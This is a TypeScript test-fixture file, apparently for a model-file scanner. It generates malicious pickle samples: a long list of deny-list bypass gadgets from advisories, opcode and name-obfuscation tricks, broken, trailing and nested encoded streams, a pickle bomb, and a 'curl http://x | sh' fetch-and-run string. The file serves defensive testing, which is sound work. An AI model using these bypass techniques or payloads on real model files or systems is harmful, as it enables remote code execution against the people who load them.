// Pickles: one for every rule, and one for each way around deny lists and parsers that was published.
import { deflateSync, gzipSync } from "node:zlib";
import { OP } from "../../../src/formats/pickle/opcodes.ts";
import {
  bytes,
  call,
  dict,
  frame,
  get,
  global,
  int,
  join,
  list,
  no,
  none,
  pickle,
  proto,
  put,
  stackGlobal,
  stop,
  storage,
  tensor,
  text,
  tuple,
} from "../pickle-writer.ts";
import { EVIL, EVIL_PICKLE, type Sample } from "./sample.ts";

function sample(name: string, rule: string, why: string, content: Uint8Array): Sample {
  return { path: `pickle/${name}.pkl`, content, rule, why };
}

/** Functions that published advisories turned into code execution past a deny list, with arguments that do nothing. */
const GADGETS: readonly (readonly [string, string])[] = [
  ["os", "system"],
  ["posix", "system"],
  ["nt", "system"],
  ["subprocess", "Popen"],
  ["builtins", "eval"],
  ["builtins", "exec"],
  ["builtins", "__import__"],
  ["builtins", "getattr"],
  ["builtins", "compile"],
  ["builtins", "open"],
  ["__builtin__", "apply"],
  ["__builtin__", "execfile"],
  ["commands", "getoutput"],
  ["popen2", "popen2"],
  ["pty", "spawn"],
  ["runpy", "_run_code"],
  ["code", "InteractiveInterpreter.runcode"],
  ["codeop", "compile_command"],
  ["pdb", "run"],
  ["bdb", "Bdb.run"],
  ["cProfile", "run"],
  ["profile", "Profile.run"],
  ["trace", "Trace.run"],
  ["timeit", "timeit"],
  ["doctest", "debug_script"],
  ["ensurepip", "_run_pip"],
  ["pip", "main"],
  ["venv", "create"],
  ["pydoc", "pipepager"],
  ["pkgutil", "resolve_name"],
  ["importlib", "import_module"],
  ["imp", "load_source"],
  ["zipimport", "zipimporter"],
  ["idlelib.autocomplete", "AutoComplete.get_entity"],
  ["idlelib.calltip", "get_entity"],
  ["idlelib.run", "Executive.runcode"],
  ["lib2to3.pgen2.grammar", "Grammar.loads"],
  ["lib2to3.pgen2.pgen", "ParserGenerator.make_label"],
  ["imaplib", "IMAP4_stream"],
  ["smtplib", "SMTP"],
  ["ftplib", "FTP"],
  ["telnetlib", "Telnet"],
  ["ssl", "get_server_certificate"],
  ["socket", "create_connection"],
  ["urllib.request", "urlopen"],
  ["requests.api", "get"],
  ["httplib", "HTTPSConnection"],
  ["aiohttp", "ClientSession"],
  ["asyncio.unix_events", "_UnixSubprocessTransport._start"],
  ["multiprocessing.util", "spawnv_passfds"],
  ["threading", "Thread"],
  ["_thread", "start_new_thread"],
  ["signal", "signal"],
  ["atexit", "register"],
  ["webbrowser", "open"],
  ["uuid", "_get_command_stdout"],
  ["platform", "popen"],
  ["_osx_support", "_read_output"],
  ["_aix_support", "_read_cmd_output"],
  ["_pyrepl.pager", "pipe_pager"],
  ["_posixsubprocess", "fork_exec"],
  ["_io", "FileIO"],
  ["logging", "FileHandler"],
  ["logging.config", "listen"],
  ["shutil", "rmtree"],
  ["tempfile", "mktemp"],
  ["glob", "glob"],
  ["linecache", "getline"],
  ["fileinput", "input"],
  ["sqlite3", "connect"],
  ["ctypes", "CDLL"],
  ["cffi", "FFI"],
  ["distutils.file_util", "write_file"],
  ["distutils.spawn", "spawn"],
  ["setuptools", "setup"],
  ["test.support.script_helper", "assert_python_ok"],
  ["unittest.mock", "_importer"],
  ["operator", "attrgetter"],
  ["_operator", "methodcaller"],
  ["functools", "reduce"],
  ["marshal", "loads"],
  ["pickle", "loads"],
  ["_pickle", "loads"],
  ["dill", "loads"],
  ["cloudpickle", "loads"],
  ["joblib", "load"],
  ["shelve", "open"],
  ["torch", "load"],
  ["torch.hub", "load"],
  ["torch.jit.unsupported_tensor_ops", "execWrapper"],
  ["torch._dynamo.guards", "GuardBuilder.get"],
  ["torch._inductor.codecache", "compile_file"],
  ["torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"],
  ["torch.utils._config_module", "ConfigModule.load_config"],
  ["torch.utils.bottleneck.__main__", "run_cprofile"],
  ["torch.utils.collect_env", "run"],
  ["torch.utils.data.datapipes.utils.decoder", "basichandlers"],
  ["torch.distributed.rpc", "rpc_sync"],
  ["torch.serialization", "load"],
  ["numpy.f2py.crackfortran", "getlincoef"],
  ["numpy.f2py.crackfortran", "_eval_length"],
  ["numpy.testing._private.utils", "runstring"],
  ["numpy.distutils.exec_command", "exec_command"],
  ["numpy", "load"],
  ["numpy", "__builtins__"],
  ["pandas", "read_pickle"],
  ["pandas", "eval"],
  ["tensorflow.io", "write_file"],
  ["keras.utils", "get_file"],
  ["nltk.app", "wordnet_app.demo"],
  ["sysconfig", "_main"],
  ["site", "execsitecustomize"],
  ["inspect", "getsource"],
  ["gc", "get_objects"],
  ["sys", "modules"],
  ["picklescan.scanner", "_unsafe_globals"],
  ["fickling.analysis", "check_safety"],
  ["torch", "serialization.os.system"],
];

function gadgets(): readonly Sample[] {
  return GADGETS.map(([module, name]) => {
    const rule = (module === "marshal" || module === "cloudpickle") && name === "loads" ? "PK15" : "PK01";
    const content = join(proto(4), call(stackGlobal(module, name), text("echo pwned")), stop);
    return { path: `gadgets/${module}-${name}.pkl`, content, rule, why: "advisories of picklescan, fickling and modelscan" };
  });
}

const memoised = join(text("os"), put(0), OP.POP, text("system"), put(1), OP.POP, get(0), get(1), OP.STACK_GLOBAL);
const through = (callee: Uint8Array) => join(proto(4), callee, tuple(text("echo pwned")), OP.REDUCE, stop);

/** Every way of naming, calling and hiding that opcodes allow. */
function ways(): readonly Sample[] {
  const doubled = join(text("system"), text("os"), put(0), OP.POP, put(1), OP.POP, get(0), get(1), OP.STACK_GLOBAL);
  return [
    sample("global-protocol-0", "PK01", "GLOBAL in text", join("cos\nsystem\n(S'echo pwned'\ntR.")),
    sample("inst", "PK01", "INST", join("(S'echo pwned'\nios\nsystem\n.")),
    sample("obj", "PK01", "OBJ", join(proto(2), OP.MARK, global("os", "system"), text("echo pwned"), OP.OBJ, stop)),
    sample("newobj", "PK01", "NEWOBJ", join(proto(2), global("subprocess", "Popen"), tuple(text("echo")), OP.NEWOBJ, stop)),
    sample("newobj-ex", "PK01", "NEWOBJ_EX", join(proto(4), global("os", "system"), tuple(text("echo")), dict(), OP.NEWOBJ_EX, stop)),
    sample("names-from-memo", "PK01", "names that are not the last two strings", through(memoised)),
    sample("names-swapped", "PK01", "names put down in the other order", through(doubled)),
    sample("names-escaped", "PK01", "names with escapes", join("V\\u006fs\nVsystem\n", OP.STACK_GLOBAL, "(S'echo'\ntR.")),
    sample("names-quoted", "PK01", "names as quoted octal", join("S'\\157s'\nS'system'\n", OP.STACK_GLOBAL, "(S'echo'\ntR.")),
    sample(
      "names-bytestring",
      "PK01",
      "names as SHORT_BINSTRING",
      through(join(OP.SHORT_BINSTRING, 2, "os", OP.SHORT_BINSTRING, 6, "system", OP.STACK_GLOBAL)),
    ),
    sample("import-only", "PK01", "an import that is never called", pickle(global("os", "system"), OP.POP, none)),
    sample(
      "partial",
      "PK01",
      "functools.partial (picklescan GHSA)",
      pickle(call(call(global("functools", "partial"), global("os", "system"), text("echo")))),
    ),
    sample(
      "rebuild-from-type",
      "PK01",
      "torch._tensor._rebuild_from_type_v2 with a callable",
      pickle(call(global("torch._tensor", "_rebuild_from_type_v2"), global("os", "system"), none, tuple(text("echo")), none)),
    ),
    sample(
      "map",
      "PK01",
      "builtins.map over a dangerous function",
      pickle(call(global("builtins", "map"), global("os", "system"), list(text("echo")))),
    ),
    sample("after-honest-data", "PK01", "after a megabyte of honest data", pickle(bytes(new Uint8Array(1_500_000)), OP.POP, EVIL)),
    sample(
      "bytes-in-between",
      "PK01",
      "names a megabyte apart",
      join(
        proto(4),
        text("os"),
        put(0),
        OP.POP,
        bytes(new Uint8Array(1_500_000)),
        OP.POP,
        text("system"),
        put(1),
        OP.POP,
        get(0),
        get(1),
        OP.STACK_GLOBAL,
        tuple(text("echo")),
        OP.REDUCE,
        stop,
      ),
    ),
    sample("unreviewed-import", "PK02", "an import in no list", pickle(global("mylib.models", "Model"))),
    sample("main-import", "PK02", "__main__", pickle(global("__main__", "Model"))),
    sample("unreviewed-call", "PK03", "a call on it", pickle(call(global("mylib.models", "load"), text("x")))),
    sample("computed-call", "PK03", "a call on the result of a call", pickle(call(call(global("collections", "defaultdict"))))),
    sample(
      "codec",
      "PK03",
      "_codecs.encode with a codec that is none of text",
      pickle(call(global("_codecs", "encode"), text("x"), text("rot13"))),
    ),
    sample(
      "type-builder",
      "PK03",
      "type() with three arguments builds a class",
      pickle(call(global("builtins", "type"), text("X"), tuple(), dict())),
    ),
    sample(
      "computed-name",
      "PK04",
      "a name that is made, not written",
      join(proto(4), call(global("builtins", "str"), text("os")), text("system"), OP.STACK_GLOBAL, stop),
    ),
    sample("number-as-name", "PK04", "a number where a name belongs", join(proto(4), int(1), text("system"), OP.STACK_GLOBAL, stop)),
    sample("extension", "PK05", "EXT1", pickle(OP.EXT1, 42)),
    sample("extension-4", "PK05", "EXT4", pickle(OP.EXT4, Buffer.from([1, 0, 0, 0]), tuple(), OP.REDUCE)),
  ];
}

/** Streams that break, go on, or hold others. */
function streams(): readonly Sample[] {
  const filler = Buffer.alloc(4096, 0x5a);
  const inside = (name: string, why: string, wrapped: Buffer) => sample(`nested-${name}`, "PK08", why, pickle(wrapped));
  const base64 = EVIL_PICKLE.toString("base64");
  return [
    sample("broken-after-call", "PK06", "nullifAI (ReversingLabs, 2025)", pickle(EVIL, 0xff)),
    sample("broken-by-stack", "PK06", "the stack underflows after the call", pickle(EVIL, OP.POP, OP.POP, OP.POP)),
    sample("broken-without-stop", "PK06", "no STOP", join(proto(2), EVIL)),
    sample("broken-import-only", "PK06", "breaks after an import", pickle(global("mylib", "f"), 0xfe)),
    sample("second-pickle", "PK07", "a second pickle", join(pickle(none), EVIL_PICKLE)),
    sample("tenth-pickle", "PK01", "the tenth pickle", join(...Array.from({ length: 9 }, () => pickle(none)), EVIL_PICKLE)),
    sample("pickle-behind-bytes", "PK01", "a pickle behind bytes that are none", join(pickle(none), filler, EVIL_PICKLE)),
    sample("pickle-behind-broken", "PK01", "a pickle behind a broken one", join(pickle(none, 0xff), filler, EVIL_PICKLE)),
    sample("protocol-0-behind-bytes", "PK01", "a pickle of protocol 0 behind bytes that are none", join(pickle(none), filler, EVIL, stop)),
    sample("trailing-bytes", "PK07", "bytes behind STOP", join(pickle(none), filler)),
    inside("raw", "a pickle in bytes (modelaudit)", bytes(EVIL_PICKLE)),
    inside("text", "a pickle of protocol 0 in text", text("cos\nsystem\n(S'echo pwned'\ntR.")),
    inside("base64", "as base64", text(base64)),
    inside("base64-bytes", "as base64 in bytes", bytes(Buffer.from(base64))),
    inside("base64-quoted", "as base64 in an S line", join(`S'${base64}'\n`)),
    inside("hex", "as hex", text(EVIL_PICKLE.toString("hex"))),
    inside("zlib", "as zlib", bytes(deflateSync(EVIL_PICKLE))),
    inside("gzip", "as gzip", bytes(gzipSync(EVIL_PICKLE))),
    inside("zlib-base64", "as zlib in base64", text(deflateSync(EVIL_PICKLE).toString("base64"))),
    inside("twice", "a pickle in a pickle in a pickle", bytes(pickle(bytes(EVIL_PICKLE)))),
    sample(
      "load-from-bytes",
      "PK01",
      "torch.storage._load_from_bytes",
      pickle(call(global("torch.storage", "_load_from_bytes"), bytes(EVIL_PICKLE))),
    ),
    sample("second-proto", "PK09", "PROTO twice", pickle(none, OP.POP, proto(4), none)),
    sample("late-proto", "PK09", "PROTO after an import", join(global("os", "getcwd"), proto(2), stop)),
    sample(
      "frame-cuts-opcode",
      "PK09",
      "fickling test_frame_boundary_divergence",
      join(proto(4), frame(4), text("os"), OP.POP, none, stop),
    ),
    sample("frame-in-frame", "PK09", "a frame in a frame", join(proto(4), frame(60), frame(20), EVIL, stop)),
  ];
}

function bomb(): Buffer {
  let body = list(int(1));
  for (let level = 0; level < 12; level += 1) {
    body = join(OP.EMPTY_LIST, OP.MARK, body, put(level), ...Array.from({ length: 9 }, () => get(level)), OP.APPENDS);
  }
  return pickle(body);
}

/** What no pickler writes, and what only looks at text. */
function tricks(): readonly Sample[] {
  const stored = storage("FloatStorage", "0", 4);
  const weights = tensor(stored, 0, [4], [1]);
  return [
    sample("bomb", "PK10", "a billion laughs in pickle", bomb()),
    sample("many-dup", "PK10", "DUP over and over", pickle(none, ...Array.from({ length: 500 }, () => OP.DUP))),
    sample("unset-memo", "PK11", "GET of a key that was never set", pickle(get(77), tuple(text("echo")), OP.REDUCE)),
    sample(
      "memo-over-import",
      "PK11",
      "PUT over an import",
      pickle(global("collections", "OrderedDict"), put(1), OP.POP, global("os", "system"), put(1), tuple(text("echo")), OP.REDUCE),
    ),
    sample("call-a-number", "PK11", "a call on a number", pickle(call(int(7)))),
    sample("items-into-tensor", "PK12", "weights_only abuse (CVE-2026-24747)", pickle(weights, OP.MARK, text("k"), int(1), OP.SETITEMS)),
    sample("items-into-number", "PK12", "SETITEM on a number", pickle(int(1), text("k"), int(1), OP.SETITEM)),
    sample(
      "build-on-import",
      "PK12",
      "BUILD on an import",
      pickle(global("collections", "OrderedDict"), dict([text("__init__"), none]), OP.BUILD),
    ),
    sample("tensor-outside-storage", "PT01", "a tensor longer than its storage", pickle(tensor(stored, 0, [1 << 20], [1]))),
    sample("tensor-negative-stride", "PT01", "a tensor that reaches before its storage", pickle(tensor(stored, 2, [4], [-1]))),
    sample("persistent-id", "PK13", "a persistent id that is none of torch's", pickle(text("s3://bucket/object"), OP.BINPERSID)),
    sample(
      "code-words",
      "PK14",
      "text that reads like code",
      pickle(dict([text("chat"), text("__import__('os').system('curl http://x | sh')")])),
    ),
    sample("dill-code", "PK15", "dill", pickle(call(global("dill._dill", "_create_code"), int(0)))),
    sample("cloudpickle-code", "PK15", "cloudpickle", pickle(call(global("cloudpickle.cloudpickle", "_make_function"), none))),
    sample("codetype", "PK15", "types.CodeType", pickle(call(global("types", "CodeType"), int(0), no))),
  ];
}

export function pickleSamples(): readonly Sample[] {
  return [...gadgets(), ...ways(), ...streams(), ...tricks()];
}
